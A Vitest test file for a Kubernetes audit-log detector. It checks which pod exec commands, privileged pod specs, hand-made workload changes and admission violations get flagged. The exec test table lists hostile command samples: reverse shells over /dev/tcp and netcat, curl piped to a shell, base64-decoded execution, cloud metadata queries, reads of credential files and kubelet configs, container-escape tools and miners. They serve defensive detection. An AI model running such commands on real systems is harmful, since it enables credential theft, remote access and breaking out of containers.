import { describe, expect, it } from 'vitest';
import { findingOf, podOf, type Sample, templateOf, told } from './audit-requests.ts';

const words = (line: string): string =>
  line
    .split(' ')
    .map((word) => `command=${encodeURIComponent(word)}`)
    .join('&');

const argo = 'argocd/argocd-application-controller';
const keda = 'keda/keda-operator';
const cut = { annotations: { 'audit.k8s.io/truncated': 'true' } };
const denied = { code: 403, decision: 'forbid' } as const;
const nobody = undefined;

/** Commands of an exec, and what they are suspected of. */
const commands: Readonly<Record<string, readonly string[]>> = {
  'reads tokens': [
    'cat /run/secrets/x',
    'cat /mnt/serviceaccount/token',
    'ls /var/secrets/kubernetes.io',
    'ls /secrets/eks.amazonaws.com',
  ],
  'reads the environment of a process': [
    'cat /proc/1/environ',
    'strings /proc/self/environ',
    'cat /proc/31337/environ',
  ],
  'reads credentials': [
    ...[
      'aws',
      'kube',
      'docker',
      'ssh',
      'azure',
      'gnupg',
      'vault-token',
      'netrc',
      'pgpass',
      'git-credentials',
      'npmrc',
    ].map((name) => `cat /root/.${name}`),
    'cat /root/.config/gcloud/x',
    'cat id_rsa',
    'cat id_ed25519',
    'cat id_ecdsa',
    'cat /etc/shadow',
    'cat /etc/gshadow',
    'cat /etc/kubernetes/admin.conf',
    'ls /etc/kubernetes/pki',
    'ls /var/lib/kubelet/pki',
    'cat /var/lib/kubelet/kubeconfig',
    'cat /var/lib/kubelet/config.json',
    'cat /opt/azure.json',
  ],
  'asks a metadata address': [
    'curl 169.254.169.254',
    'curl http://169.254.170.2/v2',
    'curl http://169.254.170.23/v1',
    'curl http://[fd00:ec2::254]/',
    'curl Metadata.Google.Internal',
    'curl 168.63.129.16',
    'curl 100.100.100.200',
    'curl 0xA9FEA9FE',
    'curl 2852039166',
  ],
  'opens a shell outwards': [
    'sh -i >& /dev/tcp/h/1',
    'sh -i >& /dev/udp/h/1',
    'sh -i >& /tmp/f',
    'sh -i>& /tmp/f',
    'bash  -i  >& /tmp/f',
    'zsh -i >&/tmp/f',
    'nc -e sh h 1',
    'nc h 1 -c sh',
    'ncat h 1 --exec sh',
    'netcat h 1 --sh-exec sh',
    'NC -lvpe sh',
    'echo a; nc h 1; nc h 2 -e sh',
    'mkfifo /tmp/f',
    'mknod /tmp/backpipe p',
    'mknod  /tmp/f  p',
    'socat x y',
    'openssl s_client -connect h',
    'openssl  s_client',
  ],
  'runs an interpreter with a socket or a terminal': [
    ...['python', 'python3.11', 'perl', 'ruby', 'php', 'php8.2', 'lua', 'node', 'nodejs', 'awk', 'gawk', 'tclsh'].map(
      (name) => `${name} -e socket`,
    ),
    'ruby -e TCPSocket',
    'php -r fsockopen',
    'perl -e IO::Socket',
    'Python -c pty',
    'awk /inet/tcp',
    'node -e child_process',
    'node -e net.connect',
    'python a; python b; python -c socket',
  ],
  'runs what it downloads': [
    ...[
      'sh',
      'bash',
      'dash',
      'ash',
      'zsh',
      'ksh',
      'python',
      'perl',
      'php',
      'node',
      'sudo sh',
      'sudo bash',
      '/bin/sh',
    ].map((name) => `curl h |${name}`),
    'wget h | sh',
    'fetch h | sh',
    'aria2c h | /usr/local/bin/bash',
    'CURL h |   sudo   sh',
    'sh <(curl h)',
    'bash -c $(wget h)',
    'zsh -c `curl h`',
    'ash <( curl h',
    'dash <(curl h)',
    'sh a; sh <(curl h)',
  ],
  'runs encoded commands': [
    'echo x | base64 -d | sh',
    'base64 -D x |bash',
    'base64 --decode x | /bin/zsh',
    'base64  -d x |  dash',
    'base64 -d x | ash',
  ],
  'leaves the container': [
    'nsenter x',
    'chroot /host',
    'crictl ps',
    'unshare x',
    'cat release_agent',
    'ctr -n x',
    'ctr c ls',
    'ctr t ls',
    'ctr i ls',
    'ctr n ls',
    'ctr  images',
    'curl --unix-socket /run/docker.sock',
    'ls /run/containerd/containerd.sock',
    'ls /var/run/a/b/c/x.sock',
  ],
  mines: ['xmrig x', 'minerd', 'cpuminer', 'Kinsing', 'x stratum+tcp://h'],
  'takes files out': [
    'tar cf - /data',
    'tar -cf - /data',
    'tar czf - /data',
    'tar  -czvf  - /data',
    'tar --create --file=- /data',
    'tar cf /data -',
    'tar --create -f- /data',
    'tar zcf - /data',
    'tar -zcf - /data',
  ],
};

const ordinaryCommands = [
  'cat /proc/1/status',
  'cat /proc/a/b/environ',
  'cat /proc/123456789012345678901/environ',
  'cat /root/.awsome',
  'cat /root/.sshx',
  'cat kid_rsa',
  'cat id_rsax',
  'ls /etc/kubernetes/manifests',
  'ls /var/lib/kubelet/pods',
  'cat azure.jsonl',
  'curl 1169.254.169.254',
  'curl 169.254.169.2541',
  'curl 169.254.170.29',
  'curl 10.169.63.129.16',
  'curl 168.63.129.161',
  'curl 0xa9fea9fe0',
  'curl 28520391660',
  'nc -z h 1',
  'sync -e x',
  'nc h 1; ls -e',
  'nc h 1 | ls -e',
  'nc h 1 & ls -e',
  'nc h 1 x-e',
  'mkfifos /tmp/f',
  'mknod /tmp/f c 1 3',
  'socats',
  'xsocat',
  'openssl x509',
  'python3 app.py',
  'ls socket',
  'node websockets.js',
  'curl h -o x.sh',
  'curl h | shuf',
  'curl h | grep sh',
  'sh -c date',
  'bash (curl h)',
  'ls <(curl h)',
  'base64 x | sh',
  'base64 -d x',
  'base64 -d x | shuf',
  'chroots',
  'xchroot',
  'ctr x',
  'ls /run/x.socket',
  'ls /run/a/b/c/d/x.sock',
  'xxmrig',
  'tar xf - /data',
  'tar cf x.tar /data',
  'tar tf - x',
  'star x cf -',
  'tar --list - x',
];

describe('a command in a container', () => {
  const rows = Object.entries(commands).flatMap(([reason, list]) => list.map((line) => [reason, line] as const));

  it.each(rows)('%s: %s', (reason, line) => {
    const sample = { by: 'eve', does: 'get pods/exec shop/web', query: words(line) };
    expect(told(sample)).toBe(
      `HIGH pod-exec-suspicious: eve ran in Pod shop/web a command that ${reason}: ${line.replaceAll(/\s+/g, ' ')}`,
    );
  });

  it.each(ordinaryCommands)('is no suspicion: %s', (line) => {
    const sample = { by: 'eve', does: 'get pods/exec shop/web', query: words(line) };
    expect(told(sample)).toBe(`MEDIUM pod-exec: eve ran in Pod shop/web: ${line}`);
  });

  it('is read from the options, where the query does not say it', () => {
    const sample = { by: 'eve', does: 'create pods/exec shop/web', body: { command: ['env'], container: 'db' } };
    expect(told(sample)).toBe('MEDIUM pod-exec: eve ran in Pod shop/web (container db): env');
  });

  it('is cut in the summary, and judged further than it is shown', () => {
    const sample = { by: 'eve', does: 'get pods/exec shop/web', query: words(`${'0123456789 '.repeat(60)}nsenter`) };
    const finding = findingOf(sample);
    expect([finding?.rule, String(finding?.details.command).length]).toEqual(['pod-exec-suspicious', 512]);
  });
});

/** What somebody may do with the rights of the node, and what is like it. */
const mounted = (path: string) => podOf({ volumes: [{ name: 'v', hostPath: { path } }] });
const secure = (securityContext: unknown) => podOf({}, { securityContext });
const volume = (source: unknown) => ({ spec: source });

const powers: readonly (readonly [powers: string | undefined, body: unknown])[] = [
  ...['/etc', '/root', '/proc', '/dev', '/var/log', '/opt/cni', '/var/lib/kubelet', '/run/containerd', '/run/k3s'].map(
    (path) => [`HIGH host directory ${path}`, mounted(path)] as const,
  ),
  ['HIGH host directory /etc/cron.d', mounted('/etc/cron.d')],
  ['HIGH host directory /etc', mounted('/etc/')],
  ['HIGH host directory /etc', mounted('/./etc//.')],
  ['HIGH host directory /etc', mounted('/data/../etc')],
  ['HIGH host directory /var', mounted('/var')],
  ['HIGH host directory /var/lib', mounted('/var/lib')],
  ['HIGH host directory /run', mounted('/var/run')],
  ['HIGH host directory /run/docker.sock', mounted('/var/run/docker.sock')],
  ['CRITICAL host directory /', mounted('/')],
  ['CRITICAL host directory /', mounted('/..')],
  ['CRITICAL host directory /', mounted('/proc/1/root')],
  ['HIGH host directory /etc', mounted('/proc/self/root/etc')],
  ['HIGH host directory /proc/11/root', mounted('/proc/11/root')],
  ['HIGH host directory /etc/var/run', mounted('/etc/var/run')],
  ['HIGH host directory /etc/proc/1/root', mounted('/etc/proc/1/root')],
  [nobody, mounted('/var/li')],
  [nobody, mounted('/etcetera')],
  [nobody, mounted('/data/etc')],
  [nobody, mounted('/var/runner')],
  [nobody, mounted('/mnt')],
  [
    'HIGH host directory /dev, host directory /etc',
    podOf({
      volumes: [{ hostPath: { path: '/etc' } }, { hostPath: { path: '/dev' } }, { hostPath: { path: '/etc/' } }, 7, {}],
    }),
  ],
  ['HIGH hostPID', podOf({ hostPID: true })],
  ['HIGH hostIPC', podOf({ hostIPC: true })],
  ['HIGH hostNetwork', podOf({ hostNetwork: true })],
  [nobody, podOf({ hostPID: 'true' })],
  ['CRITICAL container web is privileged', secure({ privileged: true })],
  [nobody, secure({ privileged: false })],
  ...['SYS_ADMIN', 'SYS_PTRACE', 'SYS_MODULE', 'SYS_RAWIO', 'NET_ADMIN', 'DAC_READ_SEARCH', 'BPF', 'ALL'].map(
    (name) => [`HIGH container web has ${name}`, secure({ capabilities: { add: [name] } })] as const,
  ),
  [
    'HIGH container web has BPF, container web has SYS_ADMIN',
    secure({ capabilities: { add: ['cap_sys_admin', 'bpf', 'BPF', 'CHOWN'] } }),
  ],
  [nobody, secure({ capabilities: { drop: ['ALL'] } })],
  [nobody, secure({ capabilities: { add: ['XCAP_BPF', 'BCAP_PF'] } })],
  ['CRITICAL container web is a host process', secure({ windowsOptions: { hostProcess: true } })],
  ['HIGH host process', podOf({ securityContext: { windowsOptions: { hostProcess: true } } })],
  [
    'CRITICAL container without a name is privileged',
    podOf({ containers: [{ securityContext: { privileged: true } }] }),
  ],
  [
    'CRITICAL container init is privileged',
    podOf({ initContainers: [{ name: 'init', securityContext: { privileged: true } }] }),
  ],
  [
    'HIGH container a has BPF, container b has BPF, container c has BPF, container d has BPF, container e has BPF and 2 more',
    podOf({
      containers: ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => ({
        name,
        securityContext: { capabilities: { add: ['BPF'] } },
      })),
    }),
  ],
];

describe('rights on the node', () => {
  it.each(powers)('are %s', (expected, body) => {
    const [severity, ...rest] = expected?.split(' ') ?? [];
    expect(told({ by: 'eve', does: 'create pods shop/web', body })).toBe(
      expected === undefined
        ? 'LOW workload-by-hand: eve created Pod shop/web'
        : `${severity} privileged-pod-creation: eve created Pod shop/web: ${rest.join(' ')}`,
    );
  });

  const host = { hostPID: true };
  const template = templateOf(host);
  it.each<[string | undefined, Sample]>([
    [
      'created ReplicationController shop/x: hostPID',
      { by: 'eve', does: 'create replicationcontrollers shop/x', body: template },
    ],
    [
      'created PodTemplate shop/x: hostPID',
      { by: 'eve', does: 'create podtemplates shop/x', body: { template: podOf(host) } },
    ],
    ['changed Deployment shop/x: hostPID', { by: 'eve', does: 'update apps:deployments shop/x', body: template }],
    ['changed DaemonSet shop/x: hostPID', { by: 'eve', does: 'patch apps:daemonsets shop/x', body: template }],
    ['created StatefulSet shop/x: hostPID', { by: 'eve', does: 'create apps:statefulsets shop/x', body: template }],
    ['created ReplicaSet shop/x: hostPID', { by: 'eve', does: 'create apps:replicasets shop/x', body: template }],
    ['created Job shop/x: hostPID', { by: 'eve', does: 'create batch:jobs shop/x', body: template }],
    ['created rollout shop/x: hostPID', { by: 'eve', does: 'create argoproj.io:rollouts shop/x', body: template }],
    [
      'created Service shop/x: hostPID',
      { by: 'eve', does: 'create serving.knative.dev:services shop/x', body: template },
    ],
    [
      'created CronJob shop/x: hostPID',
      { by: 'eve', does: 'create batch:cronjobs shop/x', body: { spec: { jobTemplate: { spec: template.spec } } } },
    ],
    [nobody, { by: 'eve', does: 'create example.org:deployments shop/x', body: template }],
    [nobody, { by: 'eve', does: 'create example.org:pods shop/x', body: podOf(host) }],
    [nobody, { by: 'eve', does: 'update pods shop/x', body: podOf(host) }],
    [nobody, { by: 'eve', does: 'update apps:deployments/status shop/x', body: template }],
    [
      'created Pod shop/x of ReplicaSet web: hostPID',
      {
        by: 'eve',
        does: 'create pods shop/x',
        body: { ...podOf(host), metadata: { ownerReferences: [{ kind: 'ReplicaSet', name: 'web' }] } },
      },
    ],
    [
      'created Pod shop/x: hostPID',
      {
        by: 'eve',
        does: 'create pods shop/x',
        body: { ...podOf(host), metadata: { ownerReferences: [{ kind: 'ReplicaSet' }] } },
      },
    ],
    [
      'created Pod shop/web-*: hostPID',
      {
        by: 'eve',
        does: 'create pods shop/',
        body: { spec: podOf(host).spec, metadata: { generateName: 'web-' } },
      },
    ],
    [
      'created Pod shop/web-1: hostPID',
      {
        by: 'eve',
        does: 'create pods shop/',
        body: podOf(host),
        result: { metadata: { name: 'web-1' } },
      },
    ],
    [
      'added a debug container to Pod shop/web: container d has BPF',
      {
        by: 'eve',
        does: 'patch pods/ephemeralcontainers shop/web',
        body: { spec: { ephemeralContainers: [{ name: 'd', securityContext: { capabilities: { add: ['BPF'] } } }] } },
      },
    ],
    [
      'created PersistentVolume pv: host directory /etc',
      {
        by: 'eve',
        does: 'create persistentvolumes pv',
        body: volume({ local: { path: '/etc' } }),
      },
    ],
    [
      'changed PersistentVolume pv: host directory /var/lib',
      {
        by: 'eve',
        does: 'patch persistentvolumes pv',
        body: volume({ hostPath: { path: '/var/lib/' } }),
      },
    ],
    [nobody, { by: 'eve', does: 'create persistentvolumes pv', body: volume({ hostPath: { path: '/data' } }) }],
    [nobody, { by: 'eve', does: 'create persistentvolumes pv', body: volume({ csi: {} }) }],
  ])('of any kind that runs Pods: %s', (expected, sample) => {
    const line = told(sample);
    expect(line?.startsWith('HIGH privileged') ? line : undefined).toBe(
      expected && `HIGH privileged-pod-creation: eve ${expected}`,
    );
  });

  it.each<[string | undefined, Sample]>([
    [
      nobody,
      {
        by: 'kube-system/job-controller',
        does: 'create pods shop/',
        body: { ...podOf(host), metadata: { generateName: 'x-' } },
      },
    ],
    [nobody, { by: 'kube-system/job-controller', does: 'create apps:replicasets shop/x', body: template }],
    [
      'HIGH privileged-pod-creation: kube-system/service-controller created Pod shop/x: hostPID',
      {
        by: 'kube-system/service-controller',
        does: 'create pods shop/x',
        body: { ...podOf(host), metadata: { generateName: 'x-' } },
        agent: 'curl/8',
      },
    ],
    [
      'HIGH privileged-pod-creation: ServiceAccount keda/keda-operator created Pod shop/x: hostPID',
      { by: keda, does: 'create pods shop/x', body: podOf(host) },
    ],
    [
      'LOW privileged-pod-creation: ServiceAccount keda/keda-operator created Pod shop/x, which may be privileged (its body is not logged)',
      { by: keda, does: 'create pods shop/x' },
    ],
    ['LOW workload-by-hand: eve created Pod shop/x', { by: 'eve', does: 'create pods shop/x' }],
    [
      'MEDIUM privileged-pod-creation: eve changed Deployment shop/x, which may be privileged (its body was too long for the audit log)',
      { by: 'eve', does: 'update apps:deployments shop/x', ...cut },
    ],
    [
      'MEDIUM ephemeral-container: eve added a debug container to Pod shop/x',
      { by: 'eve', does: 'update pods/ephemeralcontainers shop/x', ...cut },
    ],
    [nobody, { by: keda, does: 'create apps:deployments shop/x' }],
    [
      nobody,
      {
        by: 'kube-system/replicaset-controller',
        does: 'create pods shop/x',
        body: { ...podOf(host), metadata: { ownerReferences: [{ kind: 'ReplicaSet', name: 'web' }] } },
      },
    ],
    [
      'HIGH resource-deletion: eve deleted PersistentVolume pv',
      { by: 'eve', does: 'delete persistentvolumes pv', ...cut },
    ],
    [
      'MEDIUM privileged-pod-creation: eve created PersistentVolume pv, which may be privileged (its body was too long for the audit log)',
      { by: 'eve', does: 'create persistentvolumes pv', ...cut },
    ],
  ])('of controllers, and what is not seen: %s', (expected, sample) => {
    expect(told(sample)).toBe(expected);
  });
});

describe('the rights on the node', () => {
  it('are those of a container without a name, too, which is in no list of names', () => {
    const body = { spec: { containers: [{ securityContext: { privileged: true } }] } };
    expect(findingOf({ by: 'eve', does: 'create pods shop/x', body })?.details.containers).toBeUndefined();
  });

  it('are always told in the same order, so that they make the same finding', () => {
    const body = podOf({ hostPID: true, volumes: [{ hostPath: { path: '/etc' } }] });
    expect(findingOf({ by: 'eve', does: 'create pods shop/x', body })?.details.powers).toBe(
      'host directory /etc, hostPID',
    );
  });
});

const changed = (container: unknown, spec: Readonly<Record<string, unknown>> = {}) => ({
  spec: { template: { spec: { containers: [container], ...spec } } },
});

describe('what is changed by hand', () => {
  it.each<[string | undefined, unknown]>([
    ['env', changed({ env: [] })],
    ['env', changed({ envFrom: [] })],
    ['hooks', changed({ lifecycle: {} })],
    ['hooks', changed({ livenessProbe: {} })],
    ['hooks', changed({ readinessProbe: {} })],
    ['hooks', changed({ startupProbe: {} })],
    ['image', changed({ image: 'x' })],
    ['command', changed({ command: [] })],
    ['command', changed({ args: [] })],
    ['mounts', changed({ volumeMounts: [] })],
    ['security context', changed({ securityContext: {} })],
    ['command, env', changed({ env: [], command: [] })],
    ['containers', changed({ name: 'x' })],
    ['account', { spec: { template: { spec: { serviceAccountName: 'x' } } } }],
    ['account', { spec: { template: { spec: { serviceAccount: 'x' } } } }],
    ['replicas 0', { spec: { replicas: 0 } }],
    [nobody, { spec: { replicas: 1 } }],
    [nobody, { metadata: { labels: { a: 'b' } } }],
    ['image', [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'x' }]],
    ['image', [{ op: 'add', path: '/spec/template/spec/containers/-', value: { image: 'x' } }]],
    ['containers', [{ op: 'add', path: '/spec/template/spec/initContainers', value: [{ name: 'x' }] }]],
    ['replicas 0', [{ op: 'replace', path: '/spec/replicas', value: 0 }]],
    [nobody, [{ op: 'test', path: '/spec/template/spec/containers/0/image', value: 'x' }]],
    [
      'image',
      [
        { op: 'add', path: '/spec', value: { template: { spec: { containers: [{ image: 'x' }] } } } },
        { op: 'add', path: '/spec/template/metadata', value: {} },
      ],
    ],
    [nobody, [{ op: 'add', path: '/metadata/annotations/spec~1x', value: 'x' }]],
    [nobody, [{ op: 'add', path: '/__proto__/spec', value: {} }]],
    [nobody, [7, { op: 'add', path: 7, value: {} }, { op: 'remove' }]],
  ])('is told in words: %s', (expected, body) => {
    expect(told({ by: 'eve', does: 'patch apps:deployments shop/x', body })).toBe(
      expected && `LOW workload-by-hand: eve changed Deployment shop/x: ${expected}`,
    );
  });

  it.each<[string | undefined, Sample]>([
    [
      'LOW workload-by-hand: eve changed Pod shop/x: image',
      { by: 'eve', does: 'patch pods shop/x', body: { spec: { containers: [{ image: 'x', env: [] }] } } },
    ],
    [
      'LOW workload-by-hand: eve changed Pod shop/x: command',
      { by: 'eve', does: 'patch pods shop/x', body: { spec: { containers: [{ command: [], env: [] }] } } },
    ],
    [nobody, { by: 'eve', does: 'patch pods shop/x', body: { spec: { containers: [{ env: [] }] } } }],
    [
      'LOW workload-by-hand: eve scaled Deployment shop/x to 0',
      { by: 'eve', does: 'patch apps:deployments/scale shop/x', body: { spec: { replicas: 0 } } },
    ],
    [
      'LOW workload-by-hand: eve scaled StatefulSet shop/x to 0',
      { by: 'eve', does: 'update apps:statefulsets/scale shop/x', body: { spec: { replicas: 0 } } },
    ],
    [nobody, { by: 'eve', does: 'create apps:statefulsets/scale shop/x', body: { spec: { replicas: 0 } } }],
    [
      'LOW workload-by-hand: eve changed Deployment shop/x (how is not logged)',
      { by: 'eve', does: 'update apps:deployments shop/x' },
    ],
    ['LOW workload-by-hand: eve created ServiceAccount shop/x', { by: 'eve', does: 'create serviceaccounts shop/x' }],
    [nobody, { by: 'eve', does: 'update serviceaccounts shop/x' }],
    [nobody, { by: 'eve', does: 'create example.org:serviceaccounts shop/x' }],
    ['MEDIUM workload-by-hand: eve created DaemonSet shop/x', { by: 'eve', does: 'create apps:daemonsets shop/x' }],
    ['MEDIUM workload-by-hand: eve created CronJob shop/x', { by: 'eve', does: 'create batch:cronjobs shop/x' }],
    ['LOW workload-by-hand: eve created Job shop/x', { by: 'eve', does: 'create batch:jobs shop/x' }],
    [nobody, { by: 'eve', does: 'create example.org:jobs shop/x' }],
    [nobody, { by: argo, does: 'create apps:deployments shop/x', body: templateOf() }],
    [nobody, { by: keda, does: 'create apps:deployments shop/x', body: templateOf() }],
    [
      'HIGH kube-system-workload: eve created ServiceAccount kube-system/x',
      { by: 'eve', does: 'create serviceaccounts kube-system/x' },
    ],
    [
      'HIGH kube-system-workload: eve created Job kube-public/x',
      { by: 'eve', does: 'create batch:jobs kube-public/x' },
    ],
    [
      'HIGH kube-system-workload: eve created Deployment zen-system/x',
      { by: 'eve', does: 'create apps:deployments zen-system/x' },
    ],
    [
      'LOW workload-by-hand: eve created Deployment kubernetes/x',
      { by: 'eve', does: 'create apps:deployments kubernetes/x' },
    ],
    [
      'HIGH kube-system-workload: ServiceAccount keda/keda-operator created Deployment kube-system/x',
      { by: keda, does: 'create apps:deployments kube-system/x' },
    ],
    [nobody, { by: 'kube-system/x', does: 'create apps:deployments kube-system/x', body: templateOf() }],
    [nobody, { by: argo, does: 'create apps:deployments kube-system/x', body: templateOf() }],
    [
      'MEDIUM ephemeral-container: eve added the debug container a, b, c and 1 more to Pod shop/x',
      {
        by: 'eve',
        does: 'patch pods/ephemeralcontainers shop/x',
        body: { spec: { ephemeralContainers: ['a', 'b', 'c', 'd'].map((name) => ({ name })) } },
      },
    ],
    [nobody, { by: 'eve', does: 'create pods/ephemeralcontainers shop/x' }],
    [nobody, { by: 'eve', does: 'patch things/ephemeralcontainers shop/x' }],
    ['LOW workload-by-hand: eve created Pod shop/x', { by: 'eve', does: 'create pods shop/x', body: podOf(), ...cut }],
    [nobody, { by: 'eve', does: 'patch pods/status shop/x', body: podOf({ hostPID: true }) }],
  ])('and by whom, where: %s', (expected, sample) => {
    expect(told(sample)).toBe(expected);
  });
});

const noted = (annotations: Readonly<Record<string, string>>): Sample => ({
  by: 'ci/runner',
  does: 'create pods shop/x',
  body: podOf(),
  annotations,
});
const failure = 'validation.policy.admission.k8s.io/validation_failure';
const violation = 'pod-security.kubernetes.io/audit-violations';

describe('what admission let pass and noted', () => {
  it.each<[string | undefined, Sample]>([
    [
      'PodSecurity restricted: runAsNonRoot != true',
      noted({ [violation]: 'would violate PodSecurity "restricted:v1.30": runAsNonRoot != true' }),
    ],
    ['PodSecurity: something', noted({ [violation]: 'something' })],
    ['p (binding b): no', noted({ [failure]: '[{"message":"no","policy":"p","binding":"b"}]' })],
    ['a policy: no', noted({ [failure]: '[{"message":"no"}]' })],
    [
      'o, p (binding b): no; yes',
      noted({ [failure]: '[{"message":"yes","policy":"p","binding":"b"},{"message":"no","policy":"o"}]' }),
    ],
    ['p', noted({ [failure]: '[{"policy":"p"}]' })],
    [
      'p (binding b): it was cut',
      noted({ [failure]: '[{"message":"it was cut","policy":"p","binding":"b","validati' }),
    ],
    [nobody, { ...noted({ [violation]: 'x' }), by: 'kube-system/replicaset-controller', does: 'update pods shop/x' }],
    ['a policy', noted({ [failure]: '[{"mess' })],
    ['PodSecurity a: x would violate PodSecurity "a": y', noted({ [violation]: 'x would violate PodSecurity "a": y' })],
    [nobody, { ...noted({ [violation]: 'x' }), code: 403, message: 'quota exceeded' }],
    [nobody, { ...noted({ [violation]: 'x' }), code: 500 }],
    [nobody, { ...noted({ [violation]: 'x' }), ...denied }],
  ])('is told: %s', (expected, sample) => {
    const line = told(sample);
    expect(line?.includes('violation') ? line : undefined).toBe(
      expected && `MEDIUM pod-security-violation: ServiceAccount ci/runner created Pod shop/x against ${expected}`,
    );
  });
});
